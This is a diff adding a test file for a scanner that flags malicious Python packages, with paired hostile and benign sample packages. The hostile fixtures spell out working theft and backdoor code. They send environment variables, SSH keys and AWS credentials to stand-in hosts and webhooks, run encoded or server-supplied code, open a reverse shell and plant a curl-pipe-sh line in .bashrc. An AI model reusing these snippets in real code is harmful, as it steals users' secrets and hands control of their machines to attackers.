@@ -1,0 +1,161 @@
+/**
+ * Malice in packages: an author publishes a package with it, and a server that only depends on it.
+ *
+ * @module
+ */
+import { assertEquals } from "@std/assert";
+import { gzipSync } from "node:zlib";
+import { readPackage } from "../../workers/analysis/packages/reading.ts";
+import { packWheel } from "../../workers/analysis/packages/pack.ts";
+import { wheelOf } from "../helpers/package_index.ts";
+
+type Files = Record<string, string>;
+
+/** What reading a package with these files shows: "rule file:line". */
+async function read(files: Files): Promise<string[]> {
+  const wheel = wheelOf({ name: "helper-kit", version: "1.0", files });
+  const packed = packWheel(wheel, { name: "helper-kit", version: "1.0", symbols: "" });
+  if (packed.kind === "refused") throw new Error(packed.reason);
+  const { findings } = await readPackage(Uint8Array.fromBase64(packed.content), "helper-kit");
+  return findings.map(({ rule, file, line }) => `${rule} ${file}:${line}`);
+}
+
+const encoded = (code: string) => new TextEncoder().encode(code).toBase64();
+const PAYLOAD = encoded("import os, urllib.request\nurllib.request.urlopen('https://c2.example')");
+const ZIPPED = new Uint8Array(gzipSync("print(1)")).toBase64();
+
+/** Each package, and a rule that it breaks with the place. */
+const HOSTILE: Record<string, [files: Files, found: string]> = {
+  "the environment is sent at import": [{
+    "kit/__init__.py": "import os, json, urllib.request\n" +
+      "data = json.dumps(dict(os.environ)).encode()\n" +
+      "urllib.request.urlopen('https://collect.example/x', data)\n",
+  }, "py/environment-sent kit/__init__.py:3"],
+  "the environment is sent by requests from a function": [{
+    "kit/__init__.py": "from .stats import report\nreport()\n",
+    "kit/stats.py": "import os\nimport requests\n\ndef report():\n" +
+      "    requests.post('https://collect.example', json={k: v for k, v in os.environ.items()})\n",
+  }, "py/environment-sent kit/stats.py:5"],
+  "one file gathers, another sends, a third puts them together": [{
+    "kit/gather.py": "import os\n\ndef gather():\n    return dict(os.environ)\n",
+    "kit/send.py":
+      "import httpx\n\ndef send(data):\n    httpx.post('https://collect.example', json=data)\n",
+    "kit/__init__.py": "from .gather import gather\nfrom .send import send\nsend(gather())\n",
+  }, "py/environment-sent kit/send.py:4"],
+  "keys of the user go to a webhook": [{
+    "kit/__init__.py": "import pathlib, requests\n" +
+      "key = (pathlib.Path.home() / '.ssh' / 'id_rsa').read_text()\n" +
+      "requests.post('https://discord.com/api/webhooks/1/abc', json={'content': key})\n",
+  }, "py/credentials-sent kit/__init__.py:3"],
+  "credentials of a cloud go to a bot": [{
+    "kit/__init__.py": "import os, urllib.request, urllib.parse\n\n" +
+      "def beat():\n" +
+      "    text = open(os.path.expanduser('~/.aws/credentials')).read()\n" +
+      "    body = urllib.parse.urlencode({'chat_id': 1, 'text': text}).encode()\n" +
+      "    urllib.request.urlopen('https://api.telegram.org/bot1:a/sendMessage', body)\n",
+  }, "py/credentials-sent kit/__init__.py:6"],
+  "one service's key goes to another host": [{
+    "kit/__init__.py": "import os, requests\n" +
+      "requests.get('https://metrics.example/' + os.environ['OPENAI_API_KEY'])\n",
+  }, "py/key-sent kit/__init__.py:2"],
+  "decoded text is run": [{
+    "kit/__init__.py": `import base64\nexec(base64.b64decode("${PAYLOAD}"))\n`,
+  }, "py/encoded-code kit/__init__.py:2"],
+  "decoded text is run through names": [{
+    "kit/__init__.py":
+      `import base64, zlib\nblob = "${ZIPPED}"\ncode = zlib.decompress(base64.b64decode(blob), 31)\n` +
+      "run = exec\nrun(compile(code, 'x', 'exec'))\n",
+  }, "py/encoded-code kit/__init__.py:5"],
+  "a literal text that is run does it": [{
+    "kit/__init__.py": "exec('''import os, requests\n" +
+      "requests.post('https://collect.example', json=dict(os.environ))\n''')\n",
+  }, "py/environment-sent kit/__init__.py:2"],
+  "what a server answers is run": [{
+    "kit/__init__.py":
+      "import urllib.request\nexec(urllib.request.urlopen('https://c2.example/a').read())\n",
+  }, "py/remote-code kit/__init__.py:2"],
+  "what a server answers is unpickled": [{
+    "kit/__init__.py": "import pickle, requests\n\ndef load():\n" +
+      "    return pickle.loads(requests.get('https://c2.example/a').content)\n",
+  }, "py/remote-code kit/__init__.py:4"],
+  "a shell for a stranger": [{
+    "kit/__init__.py": "import socket, os, pty\ns = socket.socket()\n" +
+      "s.connect(('203.0.113.9', 4444))\n[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\n" +
+      "pty.spawn('/bin/sh')\n",
+  }, "py/reverse-shell"],
+  "a program that starts with every shell": [{
+    "kit/__init__.py": "import os\n" +
+      "with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n" +
+      "    f.write('curl -s https://c2.example/a | sh\\n')\n",
+  }, "py/hostile-start"],
+  "a top-level module beside the package": [{
+    "kit/__init__.py": "",
+    "kit_patch.py":
+      "import os, requests\nrequests.post('https://c.example', data=str(os.environ))\n",
+  }, "py/environment-sent kit_patch.py:2"],
+};
+
+for (const [what, [files, found]] of Object.entries(HOSTILE)) {
+  Deno.test(`a package is malicious if ${what}`, async () => {
+    const said = await read(files);
+    assertEquals(said.some((each) => each.startsWith(found)), true, said.join("\n"));
+  });
+}
+
+/** What libraries do for good reasons. */
+const HONEST: Record<string, Files> = {
+  "a client that sends its own key to its own service": {
+    "kit/__init__.py": "import os, httpx\n\nclass Client:\n    def __init__(self, key=None):\n" +
+      "        self.key = key or os.environ.get('KIT_API_KEY')\n\n    def get(self, path):\n" +
+      "        headers = {'Authorization': 'Bearer ' + self.key}\n" +
+      "        return httpx.get('https://api.kit.example/' + path, headers=headers).json()\n",
+  },
+  "a template engine that compiles what it makes": {
+    "kit/__init__.py":
+      "def render(source, values):\n    code = compile(translate(source), 'x', 'exec')\n" +
+      "    exec(code, values)\n\ndef translate(source):\n    return source.replace('{{', 'print(')\n",
+  },
+  "decoding that runs nothing": {
+    "kit/__init__.py": "import base64, json\n\ndef parse(text):\n" +
+      "    return json.loads(base64.b64decode(text))\n",
+  },
+  "programs that get the environment": {
+    "kit/__init__.py": "import os, subprocess\n\ndef run(args):\n" +
+      "    return subprocess.run(args, env={**os.environ, 'LC_ALL': 'C'}, check=True)\n",
+  },
+  "a signal that tells its listeners of a request": {
+    "kit/__init__.py": "from .signals import request_started\n\nclass Handler:\n" +
+      "    def __call__(self, environ):\n" +
+      "        request_started.send(sender=self.__class__, environ=environ)\n",
+  },
+  "a test runner that replaces standard input": {
+    "kit/__init__.py": "import io, sys\n\ndef isolated(data):\n" +
+      "    before = sys.stdin\n    sys.stdin = io.TextIOWrapper(io.BytesIO(data))\n" +
+      "    return before\n",
+  },
+  "a reader of a user's own configuration": {
+    "kit/__init__.py": "import configparser, pathlib\n\ndef profile(name):\n" +
+      "    config = configparser.ConfigParser()\n" +
+      "    config.read(pathlib.Path.home() / '.aws' / 'credentials')\n    return config[name]\n",
+  },
+};
+
+for (const [what, files] of Object.entries(HONEST)) {
+  Deno.test(`a package is not malicious for ${what}`, async () => {
+    assertEquals(await read(files), []);
+  });
+}
+
+Deno.test("a package that is made large is read where it acts, and says what was left", async () => {
+  const idle = "class Model:\n    name = 1\n\n".repeat(20_000);
+  const files: Files = Object.fromEntries(
+    Array.from({ length: 16 }, (_, at) => [`kit/model${at}.py`, idle]),
+  );
+  files["kit/__init__.py"] = HOSTILE["the environment is sent at import"]![0]["kit/__init__.py"]!;
+  assertEquals(await read(files), ["py/environment-sent kit/__init__.py:3"]);
+});
+
+Deno.test("what is no Python, or no package, harms nothing", async () => {
+  const odd = { "kit/__init__.py": "def broken(:\n", "kit/\u202ex.py": "x = 1\n" };
+  assertEquals(await read(odd), []);
+});
